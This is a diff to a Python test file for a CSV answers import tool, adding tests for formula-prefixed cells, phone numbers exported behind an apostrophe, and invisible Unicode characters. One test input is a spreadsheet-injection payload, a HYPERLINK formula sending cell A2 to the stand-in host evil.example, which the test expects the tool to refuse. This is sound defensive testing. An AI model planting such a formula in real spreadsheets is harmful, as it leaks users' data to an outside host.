@@ -377,8 +377,23 @@ def change_during_import_is_refused():
 
 @test
 def b01_spreadsheet_formulas_are_refused():
-    for value in ('"=HYPERLINK(""http://evil.example/?d=""&A2,""open"")"', "+1 555", "-2 dB", "@SUM(A1)"):
+    for value in ('"=HYPERLINK(""http://evil.example/?d=""&A2,""open"")"', "+1+555", "+15550100", "-2 dB", "@SUM(A1)"):
         refuse(f"id,answer\nREQ-3,{value}\n", "which a spreadsheet runs as a formula")
+
+
+@test
+def h49_an_answer_may_start_with_a_phone_number_and_its_sheet_imports_unchanged():
+    """H49-1: an answer may start with a phone number in international form ('+44 20 7946 0958 is the NOC line');
+    the export writes it after an apostrophe, as any cell that starts with a formula's sign, and import reads the
+    apostrophe as the export's, so the untouched sheet records nothing new, with --replace too."""
+    with Sandbox() as box:
+        box.accepted('id,answer\nREQ-3,"+44 20 7946 0958 is the NOC line"\n')
+        exported = box.run("items", "--format", "csv").stdout
+        assert ",'+44 20 7946 0958 is the NOC line," in exported, exported
+        before = box.doc.read_bytes()
+        for flags in ((), ("--replace",)):
+            result = box.run("import", box.csv(exported, "export.csv"), *flags)
+            assert "nothing to record" in result.stdout and box.doc.read_bytes() == before, result
 
 
 @test
@@ -644,9 +659,10 @@ def d05_a_lone_carriage_return_is_a_defect_and_refused_in_an_answer():
 
 @test
 def d06_answers_that_render_blank_are_empty():
-    for value in ("[](#req-3)", "![](#req-3)", "\u3164", "\u2800\u2800", "\ufe0f", "\u034f", "\u115f\u1160",
-                  "\uffa0 \u3164"):
+    for value in ("[](#req-3)", "![](#req-3)", "\ufe0f", "\u034f"):
         refuse(f"id,answer\nREQ-3,{value}\n", "answers.csv:2: REQ-3: the answer is empty")
+    for value in ("\u3164", "\u2800\u2800", "\u115f\u1160", "\uffa0 \u3164", "Indoor\u3164room"):   # H49-32
+        refuse(f"id,answer\nREQ-3,{value}\n", "answers.csv:2: REQ-3: the answer holds an invisible or control character")
 
 
 @test
@@ -659,8 +675,7 @@ def d07_html_entities_are_refused():
 
 @test
 def d08_not_needed_through_markup_needs_a_visible_reason():
-    for value in ("*not* needed", "`not needed`", "_not_ needed:", "not needed: \u3164\u3164\u3164",
-                  "not needed: \u2800\u2800\u2800", "not needed: a\u0301\u0301"):
+    for value in ("*not* needed", "`not needed`", "_not_ needed:", "not needed: a\u0301\u0301"):
         refuse(f"id,answer\nREQ-3,{value}\n", "'not needed' must give its reason")
     refuse("id,answer\nLIC-1,*not* needed: no licence\n", "LIC-1 is a routing item")
     assert cl.is_not_needed("*not* needed: one site only") and cl.is_not_needed("`not_needed`: x")
